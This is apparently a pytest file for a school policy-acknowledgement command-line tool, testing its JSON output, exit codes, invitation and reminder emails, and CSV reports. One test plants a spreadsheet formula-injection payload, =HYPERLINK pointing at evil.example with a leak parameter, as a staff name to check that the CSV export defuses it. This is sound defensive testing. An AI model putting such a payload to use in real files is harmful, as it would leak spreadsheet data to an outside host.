"""`python -m integration acks`: the operator contract (JSON, exit codes, messages with the fix)."""

from __future__ import annotations

import csv
import io
import json

from acks_env import set_ack_config

from integration.__main__ import main
from sandbox.forms import forms_state, seed_form, submit_response


def acks(env, *args) -> int:
    return main(["--config", str(env.config), "acks", *args])


def test_acks_json_is_exactly_the_contract_and_opening_the_round_invites(acks_env, capsys):
    env = acks_env()
    assert acks(env, "--report", "json") == 0  # a report alone sends nothing
    capsys.readouterr()
    assert env.smtp.box.messages == []
    assert acks(env, "--json") == 0
    doc = json.loads(capsys.readouterr().out)
    assert set(doc) == {"school", "policy_version", "form_id", "acknowledged", "outstanding", "staff"}
    assert doc["school"] == env.dom.split(".")[0]  # a single school's id: its domain's first label
    assert doc["policy_version"] == "2025-10" and doc["form_id"] in forms_state(env.domain).forms
    assert (doc["acknowledged"], doc["outstanding"]) == (0, 4)
    assert all(set(s) == {"email", "acknowledged_at", "reminders_sent"} for s in doc["staff"])
    everyone = sorted(env.addr(x) for x in ("alice.adams", "bob.brown", "carol.clark", "gus.governor"))
    assert sorted(r for rcpts, _m in env.smtp.box.messages for r in rcpts) == everyone  # the first invitations
    assert acks(env) == 0  # again: nobody is invited twice
    human = capsys.readouterr().out
    assert "0 acknowledged, 4 outstanding" in human and f"outstanding: {env.addr('bob.brown')}" in human
    assert len(env.smtp.box.messages) == 4

    submit_response(env.domain, doc["form_id"], env.addr("bob.brown"), forms_state(env.domain).now())
    assert acks(env, "--remind", "--json") == 0  # no reminder is due on the day the round opened
    doc = json.loads(capsys.readouterr().out)
    assert doc["acknowledged"] == 1 and doc["form_id"] == list(forms_state(env.domain).forms)[0]
    assert len(env.smtp.box.messages) == 4


def test_remind_still_sends_the_invitations_of_a_round_nobody_opened_with_plain_acks(acks_env, capsys):
    env = acks_env()
    assert acks(env, "--remind", "--json") == 0
    capsys.readouterr()
    assert len(env.smtp.box.messages) == 4
    assert acks(env, "--remind", "--json") == 0  # again: nothing twice
    assert len(env.smtp.box.messages) == 4


def test_a_form_without_email_collection_exits_2_with_the_fix(acks_env, capsys):
    env = acks_env()
    fid = seed_form(env.domain, env.ctx.settings.acknowledgement.form_owner, email_collection="DO_NOT_COLLECT")
    set_ack_config(env.config, form_id=fid)
    assert acks(env, "--remind", "--json") == 2
    out = capsys.readouterr()
    assert json.loads(out.out)["form_id"] == fid
    assert "does not collect" in out.err and "'Verified'" in out.err
    assert env.smtp.box.messages == []


def test_a_refused_forms_api_exits_3_with_the_fix(acks_env, capsys):
    env = acks_env()
    env.server.fail_api("forms", 403, "insufficientPermissions", "Request had insufficient authentication scopes.")
    assert acks(env, "--json") == 3
    out = capsys.readouterr()
    assert out.out == "" and "fix:" in out.err and "forms.body" in out.err


def test_report_csv_to_a_file(acks_env, capsys, tmp_path):
    env = acks_env()
    target = tmp_path / "reports" / "acks.csv"
    assert acks(env, "--report", "csv", "--output", str(target)) == 0
    rows = list(csv.DictReader(target.open(encoding="utf-8")))
    assert {r["org_unit"] for r in rows} == {"/Staff", "/Staff/Science", "/Governors", "(all)"}
    assert capsys.readouterr().out == ""
    assert acks(env, "--report", "json") == 0
    assert json.loads(capsys.readouterr().out)["totals"]["expected"] == 4


def test_a_directory_name_that_is_a_formula_reaches_the_csv_as_text(acks_env, capsys):
    """Issue 11 defect 6: a Directory name `=HYPERLINK(…)` must not reach `acks --report csv` as a live formula."""
    env = acks_env()
    hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"Dave")'
    env.add_person("dave.dodd", hostile)
    assert acks(env, "--report", "csv") == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    cells = [v for r in rows for v in r.values()]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    staff = next(r for r in rows if r["org_unit"] == "/Staff")
    assert "'" + hostile in staff["outstanding_names"]
